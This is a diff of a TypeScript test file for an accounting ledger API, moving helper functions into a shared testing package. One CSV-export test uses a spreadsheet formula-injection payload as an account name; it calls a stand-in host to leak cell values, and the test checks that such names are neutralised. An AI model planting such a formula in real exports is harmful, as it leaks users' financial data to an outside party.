@@ -1,6 +1,6 @@
 import { postEntry } from '../src/ledger/ledger';
 import { Decimal } from '@ledgerline/ledger-rules';
-import { created, expectFieldError } from '@ledgerline/testing';
+import { accountBalance, accountIds, created, expectFieldError, JOURNALS } from '@ledgerline/testing';
 import { startTestPlatform, type TestBusiness, type TestPlatform } from './harness';
 
 interface Entry {
@@ -12,28 +12,18 @@ interface Entry {
   lines: { account_id: string; debit: string; credit: string; base_debit: string; base_credit: string; description: string | null }[];
 }
 
-const JOURNALS = '/api/v1/journal-entries';
 let platform: TestPlatform;
 beforeAll(async () => {
   platform = await startTestPlatform();
 });
 afterAll(() => platform.close());
 
-async function accountIds(business: TestBusiness): Promise<Record<string, string>> {
-  const response = await business.sandbox.get('/api/v1/coa/accounts?limit=100');
-  return Object.fromEntries(response.body.data.map((account: { code: string; id: string }) => [account.code, account.id]));
-}
-
-async function balance(business: TestBusiness, id: string): Promise<string> {
-  return (await business.sandbox.get(`/api/v1/coa/accounts/${id}`)).body.data.balance;
-}
-
 describe('manual journal entries', () => {
   let business: TestBusiness;
   let accounts: Record<string, string>;
   beforeAll(async () => {
     business = await platform.createBusiness({ baseCurrency: 'USD' });
-    accounts = await accountIds(business);
+    accounts = await accountIds(business.sandbox, 'code');
   });
 
   it('posts a balanced entry (201) and moves the balances of its accounts', async () => {
@@ -50,8 +40,8 @@ describe('manual journal entries', () => {
       expect.objectContaining({ account_id: accounts['1010'], debit: '1000.00', credit: '0.00', base_debit: '1000.00', description: 'Deposit' }),
       expect.objectContaining({ account_id: accounts['3000'], debit: '0.00', credit: '1000.00', base_credit: '1000.00' }),
     ]);
-    expect(await balance(business, accounts['1010'])).toBe('1000.00');
-    expect(await balance(business, accounts['3000'])).toBe('-1000.00');
+    expect(await accountBalance(business.sandbox, accounts['1010'])).toBe('1000.00');
+    expect(await accountBalance(business.sandbox, accounts['3000'])).toBe('-1000.00');
     const fetched = await business.sandbox.get(`${JOURNALS}/${entry.id}`);
     expect(fetched.body.data).toEqual(entry);
     expect(fetched.headers.etag).toBe('"1"');
@@ -77,7 +67,7 @@ describe('manual journal entries', () => {
 
   it("refuses an unknown account, another business's account and an archived account", async () => {
     const other = await platform.createBusiness();
-    const otherCash = (await accountIds(other))['1000'];
+    const otherCash = (await accountIds(other.sandbox, 'code'))['1000'];
     const archived = await created<{ id: string }>(business.sandbox, '/api/v1/coa/accounts', { name: 'Old bank', type: 'asset', subtype: 'bank' });
     await business.sandbox.put(`/api/v1/coa/accounts/${archived.id}`, { archived: true });
     for (const accountId of ['01a1fd73-0000-7000-8000-000000000000', otherCash, archived.id]) {
@@ -194,7 +184,7 @@ describe('manual journal entries', () => {
         { account_id: accounts['1000'], credit: '75.50' },
       ],
     });
-    const expensesBefore = await balance(business, accounts['6000']);
+    const expensesBefore = await accountBalance(business.sandbox, accounts['6000']);
     const reversal = await created<Entry>(business.sandbox, `${JOURNALS}/${entry.id}/reverse`, { date: '2026-04-05' });
     expect(reversal).toMatchObject({ date: '2026-04-05', reverses_id: entry.id, total: '75.50' });
     expect(reversal.lines.map((l) => [l.account_id, l.debit, l.credit])).toEqual([
@@ -202,7 +192,7 @@ describe('manual journal entries', () => {
       [accounts['1000'], '75.50', '0.00'],
     ]);
     expect((await business.sandbox.get(`${JOURNALS}/${entry.id}`)).body.data.reversed_by_id).toBe(reversal.id);
-    expect(Number(await balance(business, accounts['6000']))).toBeCloseTo(Number(expensesBefore) - 75.5);
+    expect(Number(await accountBalance(business.sandbox, accounts['6000']))).toBeCloseTo(Number(expensesBefore) - 75.5);
 
     for (const response of [
       await business.sandbox.post(`${JOURNALS}/${entry.id}/reverse`, {}),
@@ -217,7 +207,7 @@ describe('manual journal entries', () => {
 
   it('lists with filters by account, source type and dates, newest first', async () => {
     const fresh = await platform.createBusiness();
-    const ids = await accountIds(fresh);
+    const ids = await accountIds(fresh.sandbox, 'code');
     const march = await created<Entry>(fresh.sandbox, JOURNALS, {
       date: '2026-03-10',
       lines: [
@@ -249,7 +239,7 @@ describe('manual journal entries', () => {
 describe('trial balance', () => {
   it('nets to zero, reads as of a date, and comes as CSV', async () => {
     const business = await platform.createBusiness({ baseCurrency: 'KWD' });
-    const ids = await accountIds(business);
+    const ids = await accountIds(business.sandbox, 'code');
     await created(business.sandbox, JOURNALS, {
       date: '2026-01-15',
       lines: [
@@ -293,7 +283,7 @@ describe('trial balance', () => {
 
   it('writes account names that look like formulas as text in the CSV, amounts as numbers', async () => {
     const business = await platform.createBusiness();
-    const ids = await accountIds(business);
+    const ids = await accountIds(business.sandbox, 'code');
     const formula = '=HYPERLINK("https://evil.test/?leak="&E2&E3,"Cash")';
     for (const [code, name] of [
       ['1000', formula],
@@ -336,7 +326,7 @@ describe('trial balance', () => {
 
   it('is answered again from the read cache until the business records an event: a posting or an account change shows at once', async () => {
     const business = await platform.createBusiness();
-    const ids = await accountIds(business);
+    const ids = await accountIds(business.sandbox, 'code');
     await created(business.sandbox, JOURNALS, {
       date: '2026-01-15',
       lines: [
@@ -378,7 +368,7 @@ describe('trial balance', () => {
 describe('events', () => {
   it('records every change in a gap-free sequence and replays it after a given sequence', async () => {
     const business = await platform.createBusiness();
-    const ids = await accountIds(business);
+    const ids = await accountIds(business.sandbox, 'code');
     const account = await created<{ id: string }>(business.sandbox, '/api/v1/coa/sales/account', { name: 'Events sales' });
     const entry = await created<Entry>(business.sandbox, JOURNALS, {
       date: '2026-06-01',
@@ -408,7 +398,7 @@ describe('events', () => {
 describe('PUT /api/v1/business', () => {
   it('updates fields, sets a lock date that refuses earlier postings, and guards the base currency', async () => {
     const business = await platform.createBusiness({ baseCurrency: 'USD' });
-    const ids = await accountIds(business);
+    const ids = await accountIds(business.sandbox, 'code');
     const updated = await business.production.put('/api/v1/business', { name: 'Renamed', timezone: 'Africa/Lagos', country: 'ng', base_currency: 'ngn' });
     expect(updated.status).toBe(200);
     expect(updated.body.data).toMatchObject({ name: 'Renamed', timezone: 'Africa/Lagos', country: 'NG', base_currency: 'NGN', version: 2 });
@@ -438,7 +428,7 @@ describe('the database itself guards the ledger', () => {
   let entry: Entry;
   beforeAll(async () => {
     business = await platform.createBusiness();
-    ids = await accountIds(business);
+    ids = await accountIds(business.sandbox, 'code');
     entry = await created<Entry>(business.sandbox, JOURNALS, {
       date: '2026-08-01',
       lines: [
@@ -496,7 +486,7 @@ describe('the database itself guards the ledger', () => {
 
   it("refuses a line on another business's account", async () => {
     const other = await platform.createBusiness();
-    const otherCash = (await accountIds(other))['1000'];
+    const otherCash = (await accountIds(other.sandbox, 'code'))['1000'];
     await expect(
       rawEntry([
         { accountId: otherCash, debit: '5', credit: '0' },
